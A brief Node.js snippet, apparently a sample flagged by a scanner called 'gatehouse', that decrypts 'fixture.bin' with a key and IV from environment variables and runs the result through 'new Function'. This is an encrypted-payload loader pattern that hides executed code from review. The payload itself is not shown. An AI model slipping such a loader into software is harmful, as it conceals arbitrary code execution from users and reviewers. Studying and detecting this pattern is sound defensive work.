const { createDecipheriv } = require("crypto");
const { readFileSync } = require("fs");

const decipher = createDecipheriv("aes-256-cbc", process.env.K, process.env.V);
const code = decipher.update(readFileSync("fixture.bin"), null, "utf8");
new Function(code)(); // gatehouse: flagged
